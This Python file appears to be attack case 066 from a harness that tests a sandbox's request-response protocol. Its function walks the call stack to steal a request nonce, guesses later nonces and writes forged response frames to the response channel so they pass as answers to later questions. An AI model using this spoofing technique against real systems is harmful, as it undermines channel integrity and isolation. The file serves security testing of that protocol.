"""066 protocol: read the number of this question from the stack and write answers to the next ones.

Evidence: said - a forged answer is taken for the answer to a later question.
When: call
Control: channel
"""


def attack():
    import json
    import struct

    frame = sys._getframe()
    while frame is not None and "nonce" not in frame.f_locals:
        frame = frame.f_back
    nonce = frame.f_locals["nonce"]
    guesses = [nonce + 1] if type(nonce) is int else [nonce, nonce[:-1] + "0", nonce[:-1] + "1", "", None]
    answers = [{"nonce": nonce, "reply": {"ok": True, "values": {"out": None}}}]
    error = {"type": "RuntimeError", "message": won(), "text": won()}
    answers += [{"nonce": guess, "reply": {"ok": False, "error": error}} for guess in guesses if guess != nonce]
    for answer in answers:
        header = json.dumps({"__metadata__": {"message": json.dumps(answer)}}).encode()
        os.write(TARGETS["response_fd"], struct.pack("<Q", len(header)) + header)
    time.sleep(0.2)
    os._exit(0)
